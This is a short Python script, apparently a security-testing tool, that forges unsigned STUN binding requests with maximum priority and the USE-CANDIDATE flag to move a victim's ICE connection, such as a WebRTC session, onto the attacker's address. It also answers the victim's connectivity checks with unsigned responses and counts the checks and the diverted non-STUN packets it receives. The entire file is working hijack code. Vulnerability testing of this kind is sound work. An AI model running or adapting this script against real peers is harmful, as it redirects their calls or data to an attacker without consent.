"""Tries to move a connection to itself, with requests that it cannot sign: `forger.py OWN_ADDRESS VICTIM PORT`.

It answers the victim's checks, also without a signature. When its input ends, it prints how many of them arrived, and
how many packets that are not STUN.
"""

from __future__ import annotations

import os
import select
import socket
import struct
import sys

COOKIE = 0x2112A442
REQUEST, RESPONSE = 0x0001, 0x0101
XOR_MAPPED_ADDRESS, PRIORITY, USE_CANDIDATE = 0x0020, 0x0024, 0x0025


def message(kind: int, transaction: bytes, *attributes: tuple[int, bytes]) -> bytes:
    """Return a STUN message."""
    body = b"".join(struct.pack("!HH", number, len(value)) + value for number, value in attributes)
    return struct.pack("!HHI", kind, len(body), COOKIE) + transaction + body


def main(own: str, victim: str, port: int) -> None:
    """Attack until the input ends."""
    checks = packets = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
        attacker.bind((own, 0))
        while True:
            request = message(REQUEST, os.urandom(12), (PRIORITY, b"\x7f\xff\xff\xff"), (USE_CANDIDATE, b""))
            attacker.sendto(request, (victim, port))
            readable = select.select([attacker, sys.stdin], [], [], 0.02)[0]
            if sys.stdin in readable:
                break
            if attacker not in readable:
                continue
            data, (host, its_port) = attacker.recvfrom(2000)
            if len(data) < 20 or struct.unpack_from("!I", data, 4) != (COOKIE,):
                packets += 1
            elif struct.unpack_from("!H", data) == (REQUEST,):
                checks += 1
                address = int.from_bytes(socket.inet_aton(host), "big") ^ COOKIE
                mapped = struct.pack("!HHI", 1, its_port ^ COOKIE >> 16, address)
                attacker.sendto(message(RESPONSE, data[8:20], (XOR_MAPPED_ADDRESS, mapped)), (host, its_port))
    print(checks, packets, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
